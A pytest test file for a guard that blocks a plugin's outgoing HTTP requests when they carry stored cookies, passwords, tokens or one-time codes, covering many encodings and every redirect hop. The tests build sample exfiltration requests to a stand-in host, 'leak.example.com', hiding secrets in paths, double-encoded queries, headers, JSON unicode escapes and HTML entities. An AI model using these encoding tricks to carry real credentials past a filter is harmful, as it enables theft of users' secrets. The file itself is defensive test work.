"""The outgoing-request check itself: every encoding, every redirect hop, every kind, digit boundaries, and
the short life of a mobile-token code (issue 15 item 1)."""

from __future__ import annotations

import json
from urllib.parse import urlencode

import httpx
import pytest

from tui.lang.host import HostError, HttpRequest
from tui.runtime.fetch import PolicyFetcher
from tui.runtime.outgoing import SecretGuard, views
from tui.runtime.secrets import KIND_NAMES, Secrets

DOMAIN = "leak.example.com"
TOKEN = "jwt-Canary.0123456789abcdef"
PW = "correct horse staple"


async def public(host: str) -> list[str]:
    return ["93.184.216.34"]


# -- the check itself: every encoding, every hop, every kind ---------------------------------------------
ENCODINGS = {
    "path": lambda s: HttpRequest("GET", f"https://{DOMAIN}/{s}"),
    "query percent": lambda s: HttpRequest("GET", f"https://{DOMAIN}/x?a=" + "".join(f"%{ord(c):02X}" for c in s)),
    "query twice encoded": lambda s: HttpRequest(
        "GET", f"https://{DOMAIN}/x?a=" + "".join(f"%25{ord(c):02X}" for c in s)
    ),
    "header value": lambda s: HttpRequest("GET", f"https://{DOMAIN}/x", {"x-a": f"v {s}"}),
    "header name": lambda s: HttpRequest("GET", f"https://{DOMAIN}/x", {f"x-{s}": "v"}),
    "upper case": lambda s: HttpRequest("GET", f"https://{DOMAIN}/x?a={s.upper()}"),
    "form body": lambda s: HttpRequest("POST", f"https://{DOMAIN}/x", {}, urlencode({"a": s}).encode()),
    "form body, spaces as +": lambda s: HttpRequest("POST", f"https://{DOMAIN}/x", {}, urlencode({"a": PW}).encode()),
    "json unicode escapes": lambda s: HttpRequest(
        "POST", f"https://{DOMAIN}/x", {}, ('{"a": "' + "".join(f"\\u{ord(c):04x}" for c in s) + '"}').encode()
    ),
    "json nested key": lambda s: HttpRequest("POST", f"https://{DOMAIN}/x", {}, json.dumps({"a": {s: 1}}).encode()),
    "html entities": lambda s: HttpRequest(
        "POST", f"https://{DOMAIN}/x", {}, "".join(f"&#{ord(c)};" for c in s).encode()
    ),
    "plain body": lambda s: HttpRequest("POST", f"https://{DOMAIN}/x", {}, f"token is {s}".encode()),
}


@pytest.mark.parametrize("encoding", list(ENCODINGS))
async def test_a_secret_is_found_however_it_is_encoded(encoding: str) -> None:
    secrets = Secrets()
    secret = "Cookie-Value_42+abc"
    secrets.add(secret, "cookie")
    secrets.add(PW, "password")
    sent: list[httpx.Request] = []
    guard = SecretGuard(secrets)
    request = ENCODINGS[encoding](secret)
    async with PolicyFetcher(httpx.MockTransport(lambda r: sent.append(r) or httpx.Response(200)), public,
                             guard=guard.for_plugin("p")) as f:  # fmt: skip
        with pytest.raises(HostError, match=f"the request to {DOMAIN} carries a (campus cookie|password)") as info:
            await f.fetch(request, (DOMAIN,))
    assert info.value.final and sent == [] and secret not in str(info.value) and PW not in str(info.value)


async def test_every_redirect_hop_is_checked() -> None:
    secrets = Secrets()
    secrets.add(TOKEN, "token")
    sent: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        sent.append(str(request.url))
        return httpx.Response(302, headers={"location": f"/next?t={TOKEN}"})

    async with PolicyFetcher(httpx.MockTransport(handler), public, guard=SecretGuard(secrets).for_plugin("p")) as f:
        with pytest.raises(HostError, match="carries a campus token"):
            await f.fetch(HttpRequest("GET", f"https://{DOMAIN}/start"), (DOMAIN,))
    assert sent == [f"https://{DOMAIN}/start"]


@pytest.mark.parametrize("kind", list(KIND_NAMES))
def test_the_refusal_names_the_kind_and_never_the_value(kind: str) -> None:
    secrets = Secrets()
    value = "Zq9-secret-value-77" if kind not in ("otp", "payment") else "482913"
    secrets.add(value, kind)  # type: ignore[arg-type]
    with pytest.raises(HostError) as info:
        SecretGuard(secrets).check("p", "GET", f"https://{DOMAIN}/x?v={value}", {}, None)
    assert f"carries a {KIND_NAMES[kind]}" in str(info.value) and value not in str(info.value)


def test_a_code_is_a_number_of_its_own_and_lapses() -> None:
    """Six digits inside a longer number are not the code; an old code is no longer a secret worth refusing."""
    now = [0.0]
    secrets = Secrets(clock=lambda: now[0])
    secrets.add("482913", "otp")
    guard = SecretGuard(secrets)
    guard.check("p", "GET", f"https://{DOMAIN}/x?t=17648291300482913", {}, None)  # a timestamp, not the code
    with pytest.raises(HostError, match="mobile-token code"):
        guard.check("q", "GET", f"https://{DOMAIN}/x?c=482913", {}, None)
    now[0] = 301.0
    guard.check("r", "GET", f"https://{DOMAIN}/x?c=482913", {}, None)
    assert secrets.scrub_text("code 482913, id 2100482913") == "code 482913, id 2100482913"


def test_views_decode_a_few_rounds_deep() -> None:
    found = views("POST", "https://x/%2541%2542", {"a": "b"}, b'{"k": "\\u0043"}')
    assert any("AB" in v for v in found) and any("C" in v for v in found)


def test_a_date_or_a_short_value_in_a_cookie_is_not_a_credential() -> None:
    """A service's `lastLogin=20261130` or `lang=zh_CN` cookie must not make an innocent request look like a leak."""
    secrets = Secrets()
    for value in ("20261130", "1796725079", "zh_CN_x"):
        secrets.add(value, "cookie")
    secrets.add("a1B2c3D4e5", "cookie")
    guard = SecretGuard(secrets)
    guard.check("p", "GET", f"https://{DOMAIN}/day/20261130?t=1796725079&l=zh_CN_x", {}, None)
    with pytest.raises(HostError, match="campus cookie"):
        guard.check("p", "GET", f"https://{DOMAIN}/x?c=a1B2c3D4e5", {}, None)
